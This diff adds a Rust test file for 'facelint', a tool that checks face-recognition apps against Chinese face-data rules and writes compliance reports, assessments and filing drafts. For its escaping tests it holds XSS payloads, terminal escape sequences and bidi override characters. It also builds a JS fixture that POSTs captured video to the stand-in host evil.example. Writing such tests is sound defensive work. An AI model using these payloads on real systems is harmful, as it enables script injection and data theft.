@@ -1,0 +1,390 @@
+//! The report for people: what it says about whole apps, that nothing of a scanned project becomes markup in it, and
+//! that it is the same each time.
+
+#![allow(clippy::unwrap_used)]
+
+mod support;
+
+use std::path::{Path, PathBuf};
+
+use facelint::finding::Say;
+use facelint::input::source::SourceMap;
+use facelint::report::page::{Attested, Form, Input, Kind, render};
+use facelint::report::{Subject, Tongue};
+use facelint::{Outcome, analyse};
+use support::Expectations;
+
+/// A scenario of the corpus.
+fn corpus(name: &str) -> Outcome {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus").join(name);
+    analyse(Expectations::load(&root, |_| true).map, false)
+}
+
+/// A project of files at hand.
+fn project(files: &[(&str, &str)]) -> Outcome {
+    let mut map = SourceMap::default();
+    for (name, text) in files {
+        map.add_text(name, text);
+    }
+    analyse(map, false)
+}
+
+/// What a page is asked for.
+struct Ask<'a> {
+    tongue: Tongue,
+    kind: Kind,
+    form: Form,
+    name: &'a str,
+    date: Option<&'a str>,
+    attested: &'a [Attested],
+}
+
+const ASK: Ask<'_> = Ask {
+    tongue: Tongue::En,
+    kind: Kind::Report,
+    form: Form::Markdown,
+    name: "app",
+    date: None,
+    attested: &[],
+};
+
+fn page(outcome: &Outcome, ask: &Ask<'_>) -> String {
+    let roots = [PathBuf::from(".")];
+    let subject = Subject {
+        map: &outcome.map,
+        evidence: &outcome.evidence,
+        findings: &outcome.findings,
+        sites: &outcome.evidence.sites,
+        notes: &outcome.notes,
+        roots: &roots,
+        tongue: ask.tongue,
+    };
+    let input = Input {
+        subject: &subject,
+        attested: ask.attested,
+        name: ask.name,
+        date: ask.date,
+        failed: outcome.failed,
+        parsed: outcome.explored.files,
+    };
+    render(&input, ask.kind, ask.form)
+}
+
+/// The part of a Markdown page below a heading, up to the next of its depth.
+fn part<'p>(page: &'p str, heading: &str) -> &'p str {
+    let start = page.find(heading).unwrap_or_else(|| panic!("no {heading:?} in\n{page}"));
+    let depth: String = heading.chars().take_while(|c| *c == '#').collect();
+    let rest = &page[start + heading.len()..];
+    let ends = (1..=depth.len()).filter_map(|depth| rest.find(&format!("\n{} ", "#".repeat(depth))));
+    &rest[..ends.min().unwrap_or(rest.len())]
+}
+
+/// The state that stands behind the title of an article or duty.
+fn state(page: &str, heading: &str) -> String {
+    let line = part(page, heading).lines().next().unwrap();
+    line.split("**")
+        .nth(1)
+        .unwrap_or_else(|| panic!("{line:?}"))
+        .trim_start_matches(['✗', '!', '✓', ' '])
+        .to_owned()
+}
+
+#[test]
+fn an_article_stands_as_its_findings_and_gates_say() {
+    let bad = page(&corpus("gym-members"), &ASK);
+    assert_eq!(state(&bad, "### Measures Art. 5"), "violated");
+    assert_eq!(state(&bad, "### Measures Art. 8"), "violated");
+    assert_eq!(state(&bad, "### Measures Art. 14"), "violated");
+    assert_eq!(state(&bad, "### Measures Art. 9"), "needs attestation");
+    assert_eq!(state(&bad, "### Measures Art. 10"), "nothing found");
+    // One half of an article is shown, the other is not.
+    assert_eq!(state(&bad, "#### Separate consent"), "satisfied");
+    assert_eq!(state(&bad, "#### Withdrawing consent"), "needs attestation");
+    assert_eq!(state(&bad, "### Measures Art. 6"), "needs attestation");
+    // The evidence of what is satisfied: the words that ask, and their place.
+    assert!(part(&bad, "#### Separate consent").contains("人脸信息采集授权"));
+    assert!(part(&bad, "#### Separate consent").contains("JoinActivity.java:"));
+    assert!(part(&bad, "#### A guardian's consent for persons under 14").contains("from 16 on"));
+    for rule in ["face-data-in-logs", "cloud-face-sdk", "incomplete-notice", "hardcoded-face-credential"] {
+        assert!(bad.contains(&format!("Rule `{rule}`")), "{rule}");
+    }
+}
+
+#[test]
+fn a_repaired_app_violates_nothing_and_is_not_called_satisfied_for_what_code_cannot_show() {
+    for name in ["gym-members-fixed", "school-gate-fixed", "bank-login-payment-fixed", "hospital-mini-fixed"]
+    {
+        let fixed = page(&corpus(name), &ASK);
+        assert!(!fixed.contains("✗ violated"), "{name}:\n{fixed}");
+        for heading in ["### Measures Art. 4", "### Measures Art. 9", "### Measures Art. 15"] {
+            assert_eq!(state(&fixed, heading), "needs attestation", "{name}: {heading}");
+        }
+        assert_eq!(state(&fixed, "#### Separate consent"), "satisfied", "{name}");
+    }
+}
+
+#[test]
+fn an_app_without_faces_has_nothing_to_judge() {
+    let plain = project(&[("Surface.kt", "class Surface(val typeface: String)\n")]);
+    let text = page(&plain, &ASK);
+    assert!(text.contains("No place that captures or recognises faces was found"));
+    assert!(!text.contains("**✓") && !text.contains("**✗") && !text.contains("**! needs"), "{text}");
+}
+
+#[test]
+fn every_finding_stands_once_under_its_article() {
+    for name in ["gym-members", "hospital-mini", "attendance-kiosk", "face-search-axum", "school-gate"] {
+        let outcome = corpus(name);
+        let text = page(&outcome, &ASK);
+        let told = text.matches("\n  Rule `").count();
+        assert_eq!(told, outcome.findings.len(), "{name}");
+    }
+}
+
+#[test]
+fn flows_show_the_way_its_gates_and_where_faces_go() {
+    let text = page(&corpus("gym-members"), &ASK);
+    let flows = part(&text, "## Flows");
+    let order = ["**Entry**", "**Age check**", "**Separate consent**", "**remote face API**", "**Vendor**"];
+    let mut at = flows.find("### `FaceGroup`").unwrap();
+    for word in order {
+        let next = flows[at..].find(word).unwrap_or_else(|| panic!("{word} in order in\n{flows}"));
+        at += next;
+    }
+    assert!(flows.contains("✗ **a database** `insert`, not encrypted, never erased"), "{flows}");
+    let without = page(&project(&[("FaceLoginActivity.java", LOGIN)]), &ASK);
+    assert!(part(&without, "## Flows").contains("**Missing** no consent is asked for on this way"));
+}
+
+const LOGIN: &str = "\
+package com.example.bank;
+
+import android.app.Activity;
+import android.os.Bundle;
+import com.tencent.cloud.huiyansdkface.facelight.api.WbCloudFaceVerifySdk;
+
+public class FaceLoginActivity extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        WbCloudFaceVerifySdk.getInstance().startWbFaceVerifySdk(this, null);
+    }
+}
+";
+
+#[test]
+fn attestations_answer_what_code_cannot_show() {
+    let outcome = corpus("gym-members");
+    let attested = [
+        Attested {
+            duty: "assessment",
+            text: Say::new("assessed on 2025-05-20", "已于2025年5月20日完成评估"),
+            citation: "PIA-2025-<7>".to_owned(),
+            loc: None,
+        },
+        Attested {
+            duty: "on-device",
+            text: Say::new("nothing is sent", "不对外传输"),
+            citation: String::new(),
+            loc: None,
+        },
+    ];
+    let text = page(&outcome, &Ask { attested: &attested, ..ASK });
+    assert_eq!(state(&text, "### Measures Art. 9"), "satisfied");
+    assert!(part(&text, "### Measures Art. 9").contains("assessed on 2025-05-20 (PIA-2025-&lt;7&gt;)"));
+    // What a finding contradicts is not attested away.
+    assert_eq!(state(&text, "### Measures Art. 8"), "violated");
+    let draft = page(&outcome, &Ask { kind: Kind::Filing, attested: &attested, ..ASK });
+    assert!(draft.contains("已于2025年5月20日完成评估"));
+}
+
+#[test]
+fn the_assessment_has_the_four_items_and_marks_every_gap() {
+    let outcome = corpus("gym-members");
+    let draft = page(&outcome, &Ask { kind: Kind::Assessment, ..ASK });
+    let mut at = 0;
+    for item in [
+        "（一）人脸信息的处理目的、处理方式是否合法、正当、必要",
+        "（二）对个人权益的影响，以及降低不利影响的措施是否有效",
+        "（三）泄露、篡改、丢失、毁损或者被非法获取、出售、使用的风险，以及可能造成的危害",
+        "（四）所采取的保护措施是否合法、有效并与风险程度相适应",
+    ] {
+        at += draft[at..].find(item).unwrap_or_else(|| panic!("{item}"));
+        assert!(part(&draft, &format!("### {item}")).contains("【待填】评估结论"), "{item}");
+    }
+    // Facts of the code with their place; what it cannot know is a gap.
+    assert!(draft.contains("Baidu") && draft.contains("FaceGroup.java:34") && draft.contains("未加密"));
+    for gap in ["全称，与营业执照一致", "年月日", "姓名、部门、职务"] {
+        assert!(draft.contains(&format!("【待填】{gap}")), "{gap}");
+    }
+    let dated = page(&outcome, &Ask { kind: Kind::Assessment, date: Some("2025-06-30"), ..ASK });
+    assert!(dated.contains("| 评估日期 | 2025-06-30 |"));
+    assert!(!draft.contains("2025-06-30"));
+}
+
+#[test]
+fn the_filing_has_its_five_parts_and_invents_no_number() {
+    let draft = page(&corpus("attendance-kiosk"), &Ask { kind: Kind::Filing, ..ASK });
+    for part in [
+        "个人信息处理者的基本情况",
+        "人脸信息处理目的和处理方式",
+        "存储数量和安全保护措施",
+        "处理规则和操作规程",
+        "个人信息保护影响评估报告",
+    ] {
+        assert!(draft.contains(part), "{part}");
+    }
+    assert!(draft.contains("| 当前存储人脸信息的人数 | **【待填】去重后的人数及统计时间** |"));
+    assert!(draft.contains("承诺书"));
+    // The draft is Chinese whatever language the rest is in.
+    let zh = page(&corpus("attendance-kiosk"), &Ask { kind: Kind::Filing, tongue: Tongue::Zh, ..ASK });
+    assert_eq!(draft, zh);
+}
+
+/// Names and texts that would do something in HTML, Markdown or a terminal.
+const HOSTILE: &str =
+    "<img src=x onerror=alert(1)>](javascript:alert(2))`|@all\u{202e}\u{1b}[31m\u{9b}2J&lt;";
+
+fn hostile() -> Outcome {
+    let code = format!(
+        "import {{ FaceDetector }} from \"@mediapipe/tasks-vision\";\n\
+         export async function scan(video) {{\n\
+           if (!window.confirm(\"是否同意采集您的人脸信息？{HOSTILE}\")) return;\n\
+           const detector = await FaceDetector.createFromOptions(null, {{}});\n\
+           const found = detector.detect(video);\n\
+           await fetch(\"http://evil.example/<script>alert(3)</script>/face?{HOSTILE}\", {{ method: \"POST\", body: video }});\n\
+           localStorage.setItem(\"faceConsent<script>alert(4)</script>\", \"1\");\n\
+           return found;\n\
+         }}\n"
+    );
+    project(&[
+        (&format!("src/{HOSTILE}/<script>alert(5)<!-- .js").replace("](", "") as &str, &code),
+        ("FaceLoginActivity.java", &LOGIN.replace("FaceLoginActivity", "Face$Login_Activity")),
+    ])
+}
+
+#[test]
+fn nothing_of_a_project_becomes_markup() {
+    let outcome = hostile();
+    assert!(outcome.findings.len() > 3, "{:#?}", outcome.findings);
+    for kind in [Kind::Report, Kind::Assessment, Kind::Filing] {
+        for tongue in [Tongue::En, Tongue::Zh] {
+            let ask = Ask { kind, tongue, name: HOSTILE, ..ASK };
+            let html = page(&outcome, &Ask { form: Form::Html, ..ask });
+            for bad in ["<script", "<img", "onerror=alert(1)>", "<!--", "\u{202e}", "\u{1b}", "\u{9b}"] {
+                assert!(!html.contains(bad), "{bad:?} in {kind:?}");
+            }
+            assert!(html.contains("&lt;img src=x onerror"), "{kind:?}");
+            balanced(&html);
+            let text = page(&outcome, &Ask { form: Form::Markdown, ..ask });
+            for bad in ["\u{202e}", "\u{1b}", "\u{9b}", "@all"] {
+                assert!(!outside_code(&text).contains(bad), "{bad:?} in {kind:?}");
+            }
+            for bad in ["<script", "<img", "](javascript"] {
+                assert!(!outside_code(&text).contains(bad), "{bad:?} in {kind:?}\n{text}");
+            }
+        }
+    }
+}
+
+/// Markdown without its code spans.
+fn outside_code(text: &str) -> String {
+    let mut out = String::new();
+    for line in text.lines() {
+        let mut rest = line;
+        while let Some(start) = rest.find('`') {
+            let escaped = rest[..start].ends_with('\\');
+            out.push_str(&rest[..start]);
+            let fence: String = rest[start..].chars().take_while(|c| *c == '`').collect();
+            let after = &rest[start + fence.len()..];
+            let end = if escaped { None } else { closing(after, fence.len()) };
+            rest = end.map_or(after, |end| &after[end..]);
+        }
+        out.push_str(rest);
+        out.push('\n');
+    }
+    out
+}
+
+/// The end of the run of exactly so many backticks.
+fn closing(text: &str, len: usize) -> Option<usize> {
+    let mut at = 0;
+    while let Some(start) = text[at..].find('`') {
+        let run = text[at + start..].chars().take_while(|c| *c == '`').count();
+        at += start + run;
+        if run == len {
+            return Some(at);
+        }
+    }
+    None
+}
+
+/// Every element that is opened is closed, in order.
+fn balanced(html: &str) {
+    const EMPTY: &[&str] = &["meta", "link", "wbr", "path", "circle"];
+    let style = html.find("</style>").unwrap();
+    let mut open: Vec<&str> = vec!["html", "body"];
+    let body = &html[style + html[style..].find("<body>").unwrap() + 6..];
+    for part in body.split('<').skip(1) {
+        let tag = part.split('>').next().unwrap();
+        let name = tag.split([' ', '/']).find(|name| !name.is_empty()).unwrap_or_default();
+        if EMPTY.contains(&name) || tag.ends_with('/') {
+            continue;
+        }
+        if tag.starts_with('/') {
+            assert_eq!(open.pop(), Some(name), "{tag}");
+        } else {
+            open.push(name);
+        }
+    }
+    assert!(open.is_empty(), "{open:?}");
+}
+
+#[test]
+fn a_page_is_the_same_each_time_and_loads_nothing() {
+    for name in ["gym-members", "hospital-mini", "face-search-express"] {
+        for kind in [Kind::Report, Kind::Assessment, Kind::Filing] {
+            for form in [Form::Html, Form::Markdown] {
+                let ask = Ask { kind, form, ..ASK };
+                assert_eq!(page(&corpus(name), &ask), page(&corpus(name), &ask), "{name} {kind:?}");
+            }
+        }
+        let html = page(&corpus(name), &Ask { form: Form::Html, ..ASK });
+        balanced(&html);
+        for load in ["<script", " src=", "@import", "url(", "<iframe", "<object", "<form", "@font-face"] {
+            assert!(!html.contains(load), "{load}");
+        }
+        assert!(html.contains("default-src 'none'"));
+    }
+}
+
+#[test]
+fn secrets_of_a_vendor_are_not_printed() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/gym-members");
+    let outcome = corpus("gym-members");
+    assert!(!outcome.evidence.credentials.is_empty());
+    let source =
+        std::fs::read_to_string(root.join("app/src/main/java/com/example/gym/face/FaceGroup.java")).unwrap();
+    let secrets: Vec<&str> = source
+        .lines()
+        .filter(|line| line.contains("API_KEY =") || line.contains("SECRET_KEY ="))
+        .map(|line| line.split('"').nth(1).unwrap())
+        .collect();
+    assert_eq!(secrets.len(), 2);
+    for form in [Form::Html, Form::Markdown] {
+        let text = page(&outcome, &Ask { form, ..ASK });
+        assert!(text.contains("hardcoded-face-credential"));
+        for secret in &secrets {
+            assert!(!text.contains(secret), "{secret}");
+        }
+    }
+}
+
+#[test]
+fn a_failed_analysis_is_said_first() {
+    let mut outcome = corpus("gym-members-fixed");
+    outcome.failed = true;
+    let text = page(&outcome, &ASK);
+    assert!(part(&text, "## Summary").contains("The analysis failed"));
+    assert_ne!(state(&text, "#### Separate consent"), "satisfied");
+}
